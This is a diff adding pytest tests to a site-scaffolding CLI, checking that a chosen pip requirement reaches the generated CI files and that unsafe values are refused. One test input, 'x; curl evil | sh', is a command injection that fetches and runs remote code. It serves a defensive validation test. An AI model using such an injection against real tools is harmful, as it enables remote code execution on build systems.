@@ -69,3 +69,17 @@ def test_init_refuses_a_folder_that_already_holds_a_partnership(tmp_path: Path, 
 def test_init_refuses_a_name_on_several_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["init", str(tmp_path / "x"), "--name", "Fernley\nPartnership", "--area", "Fernley"]) == 2
     assert capsys.readouterr().err == 'strategy-site: --name must be words on one line, such as --name "Fernley Partnership"\n'
+
+
+def test_the_ci_and_readme_install_what_init_is_told_to(tmp_path: Path) -> None:
+    init(tmp_path, "Fernley Partnership", "Borough of Fernley", nrf=False, today=TODAY,
+         install="git+https://git.fernley.example/strategy-site.git@v0.1.0")
+
+    workflow = (tmp_path / ".github/workflows/strategy-site.yml").read_text(encoding="utf-8")
+    assert 'pip install "git+https://git.fernley.example/strategy-site.git@v0.1.0"' in workflow
+    assert 'pip install "git+https://git.fernley.example/strategy-site.git@v0.1.0"' in (tmp_path / ".gitlab-ci.yml").read_text(encoding="utf-8")
+
+
+def test_an_install_requirement_that_could_run_a_command_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["init", str(tmp_path), "--name", "Fernley", "--area", "Fernley", "--install", "x; curl evil | sh"]) == 2
+    assert "--install must be one pip requirement" in capsys.readouterr().err
